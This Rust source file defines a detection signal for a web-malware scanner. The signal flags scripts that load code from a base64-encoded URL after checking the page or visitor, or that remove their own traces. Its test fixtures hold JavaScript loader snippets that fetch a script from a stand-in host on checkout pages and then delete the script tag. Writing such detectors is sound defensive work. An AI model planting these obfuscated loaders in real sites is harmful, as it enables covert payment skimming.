//! `coded-script-after-a-look`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "coded-script-after-a-look",
    description: "The script checks the visitor or the page, or removes its traces, and loads code from an encoded URL.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::ScriptFromCoded]),
        one(&[
            Atom::ScriptRemoved,
            Atom::Referrer,
            Atom::Robot,
            Atom::SignedIn,
            Atom::PaymentPlace,
            Atom::PageClick,
            Atom::LocalTime,
            Atom::Devtools,
        ]),
    ],
    within: 120,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"if(/checkout/.test(location.pathname)){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');document.head.appendChild(s)}"#,
            r#"(function(d){var s=d.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');s.onload=function(){d.head.removeChild(s)};d.head.appendChild(s)})(document)"#,
        ],
        without: &[
            r#"(function(d){var s=d.createElement('script');s.src='https://coded-host.example/a.js';s.onload=function(){d.head.removeChild(s)};d.head.appendChild(s)})(document)"#,
            r#"(function(d){var s=d.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');d.head.appendChild(s)})(document)"#,
        ],
    },
};
